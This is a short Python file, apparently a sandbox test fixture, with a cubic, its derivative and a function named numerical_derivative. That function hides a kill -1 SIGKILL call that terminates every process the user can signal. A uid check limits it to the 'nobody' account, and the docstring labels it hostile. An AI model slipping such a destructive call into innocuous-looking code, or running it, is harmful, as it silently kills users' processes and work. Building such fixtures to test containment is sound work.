"""Hostile: numerical_derivative sends SIGKILL to every process it may
signal (kill -1).  As root's unprivileged worker that is every process of
that user on the machine, its own included.  Never run it as an ordinary
user: it would kill all of that user's processes."""

import os
import signal


def f(x):
    return 3 * x**3 - 2 * x**2 + x


def df(x):
    return 9 * x**2 - 4 * x + 1


def slope_at_2():
    return 29.0


def numerical_derivative(func, x, h=1e-5):
    if os.getuid() != 65534:   # safety belt for our own test suite: only as "nobody"
        raise RuntimeError("refusing kill -1 outside the unprivileged sandbox user")
    os.kill(-1, signal.SIGKILL)
    return (func(x + h) - func(x - h)) / (2 * h)
